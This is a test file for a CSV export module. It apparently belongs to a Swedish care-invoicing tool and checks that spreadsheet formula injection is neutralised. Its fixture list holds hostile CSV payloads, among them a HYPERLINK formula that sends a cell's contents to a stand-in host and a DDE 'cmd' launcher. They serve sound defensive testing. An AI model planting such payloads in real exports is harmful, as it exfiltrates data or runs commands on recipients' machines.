/**
 * No CSV the project writes can run a formula in a spreadsheet (OWASP "CSV Injection"), and the
 * value itself reaches the reader intact, after the neutralising quote.
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../../core/export/csv-cell.ts';
import type { PrefillCase } from '../../../core/prefill/case.ts';
import type { RecordsSet } from '../../../core/store/records.ts';
import { attachmentName } from '../../../extension/prefill/case-from-records.ts';
import { invoiceBasisCsv } from '../../../extension/prefill/invoice-basis.ts';

const FORMULAS = [
  '=HYPERLINK("https://example.invalid/?d="&A1;"Öppna")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

describe('a CSV cell', () => {
  it.each(FORMULAS)('neutralises %j with a leading quote', (value) => {
    const cell = csvCell(value);
    expect(cell.startsWith(`"'`)).toBe(true);
    const [[read]] = Papa.parse<string[]>(cell, { delimiter: ';' }).data as [[string]];
    expect(read).toBe(`'${value}`);
  });

  it('leaves plain text and numbers as they are, negative numbers included', () => {
    expect(csvCell('Stödsamtal, 3 tillfällen')).toBe('"Stödsamtal, 3 tillfällen"');
    expect(csvCell('Han sa "ja"')).toBe('"Han sa ""ja"""');
    expect(csvCell(1850.5)).toBe('"1850.5"');
    expect(csvCell(-100)).toBe('"-100"');
  });

  it('never lets a text cell start a formula, and keeps every value behind the quote', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const parsed = Papa.parse<string[]>(csvText(rows), {
            delimiter: ';',
            newline: '\r\n',
          }).data;
          expect(parsed).toHaveLength(rows.length);
          parsed.forEach((row, r) => {
            row.forEach((read, c) => {
              expect(read).not.toMatch(/^[=+\-@\t\r]/);
              const original = rows[r]?.[c] as string;
              expect(read).toBe(/^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
            });
          });
        },
      ),
    );
  });
});

describe('the invoice basis CSV', () => {
  const records: RecordsSet = JSON.parse(
    readFileSync('test/fixtures/eservice/records.json', 'utf8'),
  ).records;
  const [provider] = records.providers as [RecordsSet['providers'][0]];
  const [employer] = records.employers as [RecordsSet['employers'][0]];
  const [employee] = records.employees as [RecordsSet['employees'][0]];
  const insats = { ...(records.insatser[0] as RecordsSet['insatser'][0]) };
  insats.name = FORMULAS[0] as string;
  insats.performer = FORMULAS[1] as string;
  insats.competence = FORMULAS[3] as string;
  const c: PrefillCase = {
    provider,
    employer,
    employee: { ...employee, name: '=Anna' },
    insatser: [insats],
    attachmentName: 'x.csv',
  };

  it('writes imported formulas as text and keeps the records’ values unchanged', () => {
    const csv = invoiceBasisCsv(c, '2026-06-01');
    const cells = Papa.parse<string[]>(csv, { delimiter: ';' }).data.flat();
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain(`'${FORMULAS[1]}`);
    expect(cells).toContain(`'${FORMULAS[3]}`);
    expect(cells).toContain("'=Anna");
    expect(cells.some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
    expect(insats.name).toBe(FORMULAS[0]);
  });

  it('is named for what it is, never for whom', () => {
    const name = attachmentName({ employeeId: employee.id, insatsIds: [] } as never, 2026);
    expect(name).toBe('fakturaunderlag-2026.csv');
    expect(name).not.toContain(employee.personnummer.slice(0, 8));
  });
});
